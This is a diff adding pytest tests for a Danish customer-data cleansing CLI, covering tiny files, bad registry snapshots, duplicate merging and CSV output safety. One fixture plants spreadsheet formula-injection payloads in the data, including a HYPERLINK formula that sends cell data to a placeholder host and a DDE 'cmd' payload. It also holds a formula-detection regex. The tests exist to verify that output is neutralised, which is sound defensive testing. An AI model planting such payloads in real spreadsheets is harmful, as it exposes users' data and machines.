@@ -1,0 +1,182 @@
+"""Hostile but ordinary input ends in a finished run or exit 2 with one line (issue 9).
+
+Each test carries the reproducer of the defect it guards against.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import polars as pl
+import pytest
+from typer.testing import CliRunner
+
+from datavask.connectors.output import read_excel_csv
+from datavask.flows.cli import app
+
+SAMPLE = Path(__file__).resolve().parents[2] / "data" / "sample"
+HEADER = "Kundenr;Navn;Adresse;Postnr;By;Telefon;E-mail\n"
+ROWS = [
+    "1;Hansen Byg ApS;Vestergade 12;8000;Aarhus C;;",
+    "2;Jensen VVS ApS;Nørregade 3;8000;Aarhus C;22378415;",
+    "3;Møller A/S;Algade 1;4000;Roskilde;;",
+    "4;Hansen Byg ApS;Vestergade 12;8000;Aarhus C;;info@hansenbyg.dk",
+    "5;Lene Poulsen;Skovvej 9;5000;Odense C;;",
+]
+
+
+@pytest.fixture(autouse=True)
+def _no_prefect(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DATAVASK_ORCHESTRATION", "none")
+
+
+def run_cli(*args: str) -> tuple[int, str]:
+    result = CliRunner().invoke(app, list(args))
+    return result.exit_code, result.output
+
+
+def cleanse_text(tmp_path: Path, text: str, *args: str, name: str = "in.csv") -> Path:
+    source = tmp_path / name
+    source.write_text(text, encoding="utf-8")
+    out = tmp_path / "out"
+    code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", "none", *args)
+    assert code == 0, output
+    return out
+
+
+# ----------------------------------------------------------------- item 1: tiny and one-valued
+
+
+@pytest.mark.parametrize("rows", [1, 2, 3, 4, 5])
+def test_tiny_files_finish(tmp_path: Path, rows: int) -> None:
+    out = cleanse_text(tmp_path, HEADER + "\n".join(ROWS[:rows]) + "\n")
+    records = pl.read_parquet(out / "records.parquet")
+    assert records["record_id"].to_list() == [str(i) for i in range(1, rows + 1)]
+
+
+@pytest.mark.parametrize(
+    "column", ["phone", "email"], ids=["one-switchboard-for-200", "one-email-of-200"]
+)
+def test_a_field_with_one_distinct_value_finishes(tmp_path: Path, column: str) -> None:
+    rows = []
+    for i in range(1, 201):
+        phone = "33121212" if column == "phone" else ""
+        email = "info@firma.dk" if column == "email" and i == 1 else ""
+        rows.append(f"{i};Firma {i} ApS;Vej {i};8000;Aarhus C;{phone};{email}")
+    out = cleanse_text(tmp_path, HEADER + "\n".join(rows) + "\n")
+    assert pl.read_parquet(out / "records.parquet").height == 200
+
+
+# ----------------------------------------------------------------- item 8: garbage registry
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("registry.txt", b"this is not a registry\n"),
+        ("registry.jsonl", b""),
+        ("registry.jsonl", b'{"cvr": "21265837"}\n{"cvr": "10000009"}\n'),
+    ],
+    ids=["text", "empty", "wrong-shape"],
+)
+def test_a_garbage_registry_snapshot_exits_2(tmp_path: Path, name: str, content: bytes) -> None:
+    snapshot = tmp_path / name
+    snapshot.write_bytes(content)
+    source = tmp_path / "in.csv"
+    source.write_text(HEADER + "\n".join(ROWS) + "\n", encoding="utf-8")
+    out = tmp_path / "out"
+    code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", str(snapshot))
+    assert code == 2, output
+    lines = [line for line in output.splitlines() if line.strip() and "━" not in line]
+    assert lines[-1].startswith("error:") and "ERST documents" in output, output
+    assert "Traceback" not in output
+    assert not out.exists()
+
+
+# ----------------------------------------------------------------- items 7 and 15: CSV hand-off
+
+FORMULA = re.compile(r"^[=+\-@\t\r]")
+NUMBER = re.compile(r"^[+\-][0-9 .,()/+\-]*$")
+
+
+def _cells(path: Path, separator: str, encoding: str = "utf-8") -> list[str]:
+    text = path.read_bytes().decode(encoding).removeprefix("\ufeff")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
+    return [cell for row in rows for cell in row]
+
+
+@pytest.fixture(scope="module")
+def planted_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The bundled sample with formula payloads planted in every field, and an exact copy of
+    one customer whose customer number is a payload (so the merge plan names it)."""
+    tmp = tmp_path_factory.mktemp("planted")
+    text = (SAMPLE / "customers.csv").read_bytes().decode("cp1252")
+    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    payloads = [
+        '=HYPERLINK("http://x.example/?"&A1)', "@SUM(A1)", "-2+3+cmd|' /C calc'!A0",
+        "+SUM(1)", "\t=1+1", "\r=1+1",
+    ]  # fmt: skip
+    for i, row in enumerate(rows[:60]):
+        row[i % len(row)] = payloads[i % len(payloads)]
+    rows.append(["=1+1", *rows[100][1:]])
+    source = tmp / "planted.csv"
+    with source.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh, delimiter=";").writerows([header, *rows])
+    out = tmp / "out"
+    with pytest.MonkeyPatch.context() as env:  # module scope: before the autouse fixture
+        env.setenv("DATAVASK_ORCHESTRATION", "none")
+        code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", "none")
+    assert code == 0, output
+    return out
+
+
+@pytest.mark.parametrize(
+    "name", ["changes.csv", "reimport/merge_plan.csv", "reimport/customers_update.csv"]
+)
+def test_no_output_csv_cell_runs_as_a_formula(planted_run: Path, name: str) -> None:
+    cells = _cells(planted_run / name, ";")
+    assert len(cells) > 100
+    risky = [cell for cell in cells if FORMULA.match(cell) and not NUMBER.match(cell)]
+    assert risky == []
+    if name == "reimport/customers_update.csv":
+        assert "'=1+1" in cells and "'@SUM(A1)" in cells
+        assert any(re.fullmatch(r"\+45\d{8}", cell) for cell in cells)  # E.164 left as is
+    if name == "reimport/merge_plan.csv":
+        assert any("=1+1" in cell for cell in cells)  # the planted customer number is there
+
+
+def test_changes_and_merge_plan_open_in_danish_excel(planted_run: Path) -> None:
+    for name, header in (
+        ("changes.csv", "record_id;field;before;after;rule"),
+        ("reimport/merge_plan.csv", "survivor_id;merged_ids;score;crm_action"),
+    ):
+        data = (planted_run / name).read_bytes()
+        assert data.startswith(b"\xef\xbb\xbf" + header.encode()), (name, data[:80])
+    assert any(ch in (planted_run / "changes.csv").read_text("utf-8-sig") for ch in "æøåÆØÅ")
+    assert read_excel_csv(planted_run / "reimport" / "merge_plan.csv").height > 10
+
+
+# ----------------------------------------------------------------- item 9: many identical copies
+
+
+def test_sixty_identical_copies_are_one_customer(tmp_path: Path) -> None:
+    """Every block of the copied customer is over the cap of 50; the copies still merge."""
+    text = (SAMPLE / "customers.csv").read_bytes().decode("cp1252")
+    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    copied = rows[4]
+    copies = [[f"K{i}", *copied[1:]] for i in range(60)]
+    rows = [*rows, *copies]
+    source = tmp_path / "copies.csv"
+    with source.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh, delimiter=";").writerows([header, *rows])
+    out = tmp_path / "out"
+    code, output = run_cli("cleanse", str(source), "--out", str(out), "--registry", "none")
+    assert code == 0, output
+    records = pl.read_parquet(out / "records.parquet")
+    ids = [*(f"K{i}" for i in range(60)), copied[0]]
+    clusters = records.filter(pl.col("record_id").is_in(ids))["cluster_id"]
+    assert clusters.n_unique() == 1
+    assert records.filter(pl.col("cluster_id") == clusters[0]).height == len(ids)
